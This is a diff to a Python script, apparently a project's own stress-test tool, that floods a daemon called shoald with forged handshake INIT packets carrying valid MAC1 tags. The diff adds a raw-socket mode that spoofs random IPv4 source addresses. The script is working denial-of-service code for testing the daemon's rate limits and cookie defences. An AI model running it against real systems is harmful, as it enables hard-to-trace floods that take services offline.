@@ -1,22 +1,29 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: GPL-2.0
 """Floods a shoald with forged handshake INITs, as docs/protocol.md lays
-them out: a valid header and MAC (anyone can compute it from the public
-key) around random Noise bytes, so each one gets past the cheap check and
-is stopped only by the per-source rate limit or the Diffie-Hellman.
+them out: a valid header and MAC1 (anyone can compute it from the public
+key) around random Noise bytes, and no cookie (MAC2 zero), so each one
+gets past the cheap check and is stopped only by the cookie under load,
+the rate limits or the Diffie-Hellman.
 
-forge_handshake.py --to HOST:PORT --pub BASE64 [--src ADDR] [--rate N]
-                   [--seconds S]
+forge_handshake.py --to HOST:PORT --pub BASE64 [--src ADDR]
+                   [--spoof CIDR] [--rate N] [--seconds S]
+
+--spoof sends each INIT from a random address of CIDR (IPv4) and a random
+port, through a raw socket: a flooder that never sees the answers.
 Prints the number of packets sent."""
 import argparse
 import base64
 import hashlib
+import ipaddress
 import os
+import random
 import socket
 import struct
 import time
 
-INIT_LEN = 4 + 4 + (32 + 32 + 16 + 16 + 16) + 16
+VERSION = 2
+INIT_LEN = 4 + 4 + (32 + 32 + 16 + 16 + 16) + 16 + 16
 
 
 def mac1_key(pub):
@@ -24,9 +31,29 @@ def mac1_key(pub):
 
 
 def forged_init(key):
-    body = bytes([1, 1, 0, 0]) + struct.pack(">I", 0x100 + (os.urandom(2)[0] << 8))
-    body += os.urandom(INIT_LEN - len(body) - 16)
-    return body + hashlib.blake2b(body, digest_size=16, key=key).digest()
+    body = bytes([1, VERSION, 0, 0]) + struct.pack(">I", 0x100 + (os.urandom(2)[0] << 8))
+    body += os.urandom(INIT_LEN - len(body) - 32)
+    return body + hashlib.blake2b(body, digest_size=16, key=key).digest() + bytes(16)
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    s = (s >> 16) + (s & 0xFFFF)
+    s += s >> 16
+    return ~s & 0xFFFF
+
+
+def ipv4_udp(src, sport, dst, dport, payload):
+    udp_len = 8 + len(payload)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
+                     src, dst)
+    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+    pseudo = src + dst + struct.pack("!BBH", 0, 17, udp_len)
+    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
+    csum = checksum(pseudo + udp) or 0xFFFF
+    return ip + udp[:6] + struct.pack("!H", csum) + udp[8:]
 
 
 def main():
@@ -34,18 +61,30 @@ def main():
     ap.add_argument("--to", required=True)
     ap.add_argument("--pub", required=True)
     ap.add_argument("--src", default="")
+    ap.add_argument("--spoof", default="")
     ap.add_argument("--rate", type=int, default=10000)
     ap.add_argument("--seconds", type=float, default=10)
     a = ap.parse_args()
     host, port = a.to.rsplit(":", 1)
     key = mac1_key(base64.b64decode(a.pub))
+    dest = (host, int(port))
     # A pool of distinct packets, sent in rotation: generating each one
     # would cost more than sending it.
-    pool = [b"\0\0\0\0" + forged_init(key) for _ in range(1024)]
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    if a.src:
-        s.bind((a.src, 0))
-    dest = (host, int(port))
+    if a.spoof:
+        net = ipaddress.ip_network(a.spoof)
+        dst = socket.inet_aton(host)
+        hosts = int(net.num_addresses)
+        pool = []
+        for _ in range(4096):
+            src = (net.network_address + random.randrange(1, hosts - 1)).packed
+            pool.append(ipv4_udp(src, random.randrange(1024, 65536), dst,
+                                 int(port), b"\0\0\0\0" + forged_init(key)))
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    else:
+        pool = [b"\0\0\0\0" + forged_init(key) for _ in range(1024)]
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        if a.src:
+            s.bind((a.src, 0))
     sent = 0
     start = time.monotonic()
     end = start + a.seconds
